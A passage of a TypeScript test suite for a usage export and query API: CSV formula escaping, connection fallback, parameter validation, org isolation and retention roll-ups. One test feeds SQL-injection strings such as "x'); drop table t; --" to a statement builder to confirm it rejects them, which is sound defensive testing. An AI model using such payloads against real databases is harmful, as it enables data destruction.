    expectNoFormulaCells(rows);
    expect(rows[0]?.org_name).toBe(`'＝Acme\r\nInc, "Ltd"\tEU`);
    expect(rows.map((row) => row.quantity)).toEqual(expect.arrayContaining(["1.5", "2", "-150"]));
    // Records end in CRLF; a line break inside a quoted cell is kept as it was.
    expect(org.copy).toContain('"\'-Olga, ""the owner""\nsecond line"');
    expect(org.copy.split("\r\n").at(-1)).toBe("");

    const own = await both(memberCtx, `org=${orgId}&${range()}`);
    expect(own.copy).toBe(own.api);
    expect(csvRows(own.copy).map((row) => row.member_email)).toEqual([
      "'@member@example.com",
      "'@member@example.com",
    ]);

    const platform = await both(platformCtx, `scope=platform&${range()}`);
    expect(platform.copy).toBe(platform.api);
    expect(csvRows(platform.copy).at(-1)?.org_id).toBe("");
  });

  it("falls back to the API's pages when the direct connection fails", async () => {
    const configured = process.env.SUPABASE_DB_URL;
    const errors: unknown[] = [];
    const logError = console.error;
    console.error = (...args: unknown[]) => void errors.push(args);
    try {
      // Nothing listens on port 1: the connection is refused.
      process.env.SUPABASE_DB_URL = "postgresql://postgres:postgres@127.0.0.1:1/postgres";
      const fallback = await exportText(ownerCtx, `org=${orgId}&${range()}`);
      await expect(exportText(ownerCtx, `org=${orgId}&${range()}`, { reader: "copy" })).rejects.toThrow();
      process.env.SUPABASE_DB_URL = configured;
      expect(fallback.response.status).toBe(200);
      expect(fallback.text).toBe(
        (await exportText(ownerCtx, `org=${orgId}&${range()}`, { reader: "copy" })).text,
      );
      expect(String(errors[0])).toContain("the direct connection failed");
    } finally {
      process.env.SUPABASE_DB_URL = configured;
      console.error = logError;
    }
  });

  it("refuses a scope that is not a uuid before it reaches SQL", async () => {
    const { csvCopyStatement } = await import("@/lib/usage/export-copy");
    const params = { start: at(0), end: at(1), metrics: ["api_call" as const] };
    expect(() =>
      csvCopyStatement({ ...params, scope: { orgId: "x'); drop table t; --", userId: null } }),
    ).toThrow(/Not a uuid/);
    const statement = csvCopyStatement({ ...params, scope: { orgId, userId: null } });
    expect(statement).toContain(`e.org_id = '${orgId}'::uuid`);
    expect(statement).toContain(`e.created_at >= '${at(0).toISOString()}'::timestamptz`);
    expect(statement).toContain("e.event_type = any ('{api_call}'::text[])");
    expect(() =>
      csvCopyStatement({
        ...params,
        metrics: ["api_call'); --" as "api_call"],
        scope: { orgId, userId: null },
      }),
    ).toThrow(/Not a metric/);
  });
});

describe("the usage query API", () => {
  let owner: TestUser, member: TestUser, outsider: TestUser;
  let orgId: string, secret: string, otherSecret: string;
  const today = startOfUtcDay(new Date());
  const weekStart = addUtcDays(today, -6);
  const week = `from=${weekStart.toISOString().slice(0, 10)}&to=${today.toISOString().slice(0, 10)}`;

  beforeAll(async () => {
    [owner, member, outsider] = await Promise.all([createTestUser(), createTestUser(), createTestUser()]);
    orgId = await createOrg(owner, [[member, "member"]]);
    const otherOrg = await createOrg(outsider);
    secret = (await createApiKey(owner.client, { orgId, userId: owner.id, name: "usage" })).secret;
    otherSecret = (await createApiKey(outsider.client, { orgId: otherOrg, userId: outsider.id, name: "o" }))
      .secret;
    const at = (days: number, hours: number) => new Date(today.getTime() + days * DAY + hours * 3_600_000);
    await spend(owner.id, orgId, "storage_used", 2048, at(-20, 1));
    await spend(owner.id, orgId, "api_call", 1, at(-5, 2), { route: "/api/v1/records", status: 200 });
    await spend(member.id, orgId, "api_call", 1, at(-5, 3), { route: "/api/v1/records", status: 404 });
    await spend(member.id, orgId, "ai_tokens_used", 300, at(-4, 3), { model: "m1" });
    await spend(owner.id, orgId, "ai_tokens_used", 30, at(-1, 3), { model: "m2" });
    await spend(member.id, orgId, "storage_used", -48, at(-3, 3));
    await spend(member.id, orgId, "user_active", 1, at(-3, 4));
    await spend(owner.id, orgId, "user_active", 1, at(-3, 5));
    await spend(owner.id, orgId, "user_active", 1, at(-2, 5));
    await spend(owner.id, orgId, "record_created", 1, at(-1, 6));
    await spend(outsider.id, otherOrg, "api_call", 1, at(-5, 2), { route: "/x", status: 200 });
    const rolled = await serviceClient().rpc("aggregate_usage", {
      p_period_type: "daily",
      p_period_start: addUtcDays(today, -30).toISOString(),
      p_period_end: today.toISOString(),
    });
    expect(rolled.error).toBeNull();
  });

  async function query(key: string, params: string) {
    const response = await usageQueryRoute(
      new Request(`http://localhost/api/v1/usage?${params}`, { headers: { authorization: `Bearer ${key}` } }),
      { params: Promise.resolve({}) },
    );
    return { status: response.status, body: (await response.json()) as unknown };
  }

  interface Answer {
    total: number;
    count: number;
    buckets: { start: string; end: string; total: number; count: number; groups?: { total: number }[] }[];
    groups?: Record<string, unknown>[];
  }

  it("answers the dashboard's numbers, bucket by bucket, for every metric", async () => {
    // api_call last: every call to the API is itself an API call of the organization.
    const metrics = [...EVENT_TYPES.filter((m) => m !== "api_call"), "api_call" as const];
    const answers = new Map<EventType, Answer>();
    for (const metric of metrics) {
      const { status, body } = await query(secret, `metric=${metric}&${week}`);
      expect(status, metric).toBe(200);
      answers.set(metric, (body as { data: Answer }).data);
    }
    const members = await listMemberOptions(owner.client as unknown as AuthContext["supabase"], orgId);
    const { scope } = decideScope(
      { orgId, role: "owner", viewerId: owner.id, memberId: null, wantsOrg: false },
      members,
    );
    const dashboard = await loadUsageDashboard({ scope, role: "owner", members, period: "week" });
    for (const card of dashboard.cards) {
      const answer = answers.get(card.metric);
      expect(
        answer?.buckets.map((b) => b.start),
        card.metric,
      ).toEqual(dashboard.period.buckets);
      expect(
        answer?.buckets.map((b) => b.total),
        card.metric,
      ).toEqual(card.series);
      expect(answer?.total, card.metric).toBe(card.value);
    }
    expect(answers.get("storage_used")?.total).toBe(2000);
    expect(answers.get("user_active")?.total).toBe(2);
    expect(answers.get("ai_tokens_used")?.count).toBe(2);
  });

  it("splits buckets per member and per dimension, adding up to the bucket", async () => {
    const byMember = (await query(secret, `metric=ai_tokens_used&${week}&group_by=member`)).body as {
      data: Answer;
    };
    expect(byMember.data.groups).toEqual([
      { member_id: [owner.id, member.id].sort()[0], total: expect.any(Number), count: 1 },
      { member_id: [owner.id, member.id].sort()[1], total: expect.any(Number), count: 1 },
    ]);
    for (const bucket of byMember.data.buckets) {
      expect(bucket.groups).toHaveLength(2);
      expect(bucket.groups?.reduce((sum, g) => sum + g.total, 0)).toBe(bucket.total);
    }
    const storage = (await query(secret, `metric=storage_used&${week}&group_by=member`)).body as {
      data: Answer;
    };
    expect(
      storage.data.buckets
        .at(-1)
        ?.groups?.map((g) => g.total)
        .sort((a, b) => a - b),
    ).toEqual([-48, 2048]);

    const byRoute = (await query(secret, `metric=api_call&${week}&group_by=dimension`)).body as {
      data: Answer;
    };
    expect(byRoute.data.groups).toEqual(
      expect.arrayContaining([
        { dimension: { route: "/api/v1/records", status: "200" }, total: 1, count: 1 },
        { dimension: { route: "/api/v1/records", status: "404" }, total: 1, count: 1 },
      ]),
    );
    for (const bucket of byRoute.data.buckets)
      expect(bucket.groups?.reduce((sum, g) => sum + g.total, 0)).toBe(bucket.total);

    const monthly = (await query(secret, `metric=ai_tokens_used&${week}&window=month`)).body as {
      data: Answer;
    };
    expect(monthly.data.buckets.reduce((sum, b) => sum + b.total, 0)).toBe(330);
    expect(monthly.data.buckets[0]?.start).toBe(weekStart.toISOString());
  });

  it("shows a key only its own organization", async () => {
    const other = (await query(otherSecret, `metric=ai_tokens_used&${week}`)).body as { data: Answer };
    expect(other.data.total).toBe(0);
    expect(other.data.buckets).toHaveLength(7);
    expect(other.data.buckets.every((b) => b.total === 0 && b.count === 0)).toBe(true);
  });

  it("refuses bad parameters with /api/v1's error format, naming them", async () => {
    const cases: [string, string][] = [
      [week, "metric"],
      [`metric=tokens&${week}`, "metric"],
      [`metric=api_call`, "from"],
      [`metric=api_call&${week}&window=hour`, "window"],
      [`metric=api_call&${week}&group_by=org`, "group_by"],
      [`metric=storage_used&${week}&group_by=dimension`, "group_by"],
      [`metric=api_call&from=2024-01-01&to=2026-01-01`, "to"],
      [`metric=api_call&${week}&org=${orgId}`, "org"],
    ];
    for (const [params, parameter] of cases) {
      const { status, body } = await query(secret, params);
      expect(status, params).toBe(400);
      expect(body, params).toMatchObject({
        error: { code: "bad_request", details: { issues: expect.any(Array) } },
      });
      expect((body as { error: { message: string } }).error.message, params).toMatch(
        new RegExp(`^Invalid parameter ${parameter}: `),
      );
    }
    expect((await query("mlk_unknown", `metric=api_call&${week}`)).status).toBe(401);
  });
});

describe("ranges that reach before the raw events kept", () => {
  it("export daily roll-ups instead of raw events, and say so; the query API says so too", async () => {
    const owner = await createTestUser();
    const orgId = await createOrg(owner);
    const ctx = await sessionOf(owner);
    const secret = (await createApiKey(owner.client, { orgId, userId: owner.id, name: "retention" })).secret;
    await spend(owner.id, orgId, "api_call", 1, new Date("2022-03-05T10:00:00Z"), {
      route: "/x",
      status: 200,
    });
    await spend(owner.id, orgId, "api_call", 1, new Date("2022-03-05T11:00:00Z"), {
      route: "/x",
      status: 200,
    });
    // As if retention had dropped every month before March 2022 (no test writes anything older but
    // 2022-03's own events here, and reads of others' months are unchanged by the flag).
    await db`update public.usage_retention set raw_from = '2022-03-01T00:00:00Z'`;
    try {
      const reaching = await exportText(ctx, `org=${orgId}&from=2022-02-01&to=2022-03-31&granularity=raw`);
      expect(reaching.response.status).toBe(200);
      expect(reaching.response.headers.get("x-usage-granularity")).toBe("daily");
      expect(reaching.response.headers.get("x-usage-raw-events-from")).toBe("2022-03-01T00:00:00.000Z");
      expect(reaching.response.headers.get("x-usage-notice")).toMatch(
        /^Raw events before 2022-03-01T00:00:00.000Z are no longer kept/,
      );
      expect(reaching.response.headers.get("content-disposition")).toContain("daily");
      const rows = csvRows(reaching.text);
      expect(rows.map((r) => [r.period_start, r.api_calls])).toEqual([["2022-03-05T00:00:00.000Z", "2"]]);

      const kept = await exportText(ctx, `org=${orgId}&from=2022-03-01&to=2022-03-31&granularity=raw`);
      expect(kept.response.headers.get("x-usage-granularity")).toBe("raw");
      expect(kept.response.headers.get("x-usage-notice")).toBeNull();
      expect(csvRows(kept.text)).toHaveLength(2);

      const answer = async (from: string) => {
        const response = await usageQueryRoute(
          new Request(
            `http://localhost/api/v1/usage?metric=api_call&window=month&from=${from}&to=2022-03-31`,
            {
              headers: { authorization: `Bearer ${secret}` },
            },
          ),
          { params: Promise.resolve({}) },
        );
        expect(response.status).toBe(200);
        return (
          (await response.json()) as { data: { total: number; raw_events_from: string; notice?: string } }
        ).data;
      };
      const before = await answer("2022-01-01");
      expect(before.total).toBe(2);
      expect(before.raw_events_from).toBe("2022-03-01T00:00:00.000Z");
      expect(before.notice).toMatch(/roll-ups, in whole UTC days/);
      expect((await answer("2022-03-01")).notice).toBeUndefined();
    } finally {
      await db`update public.usage_retention set raw_from = null`;
    }
  });
});
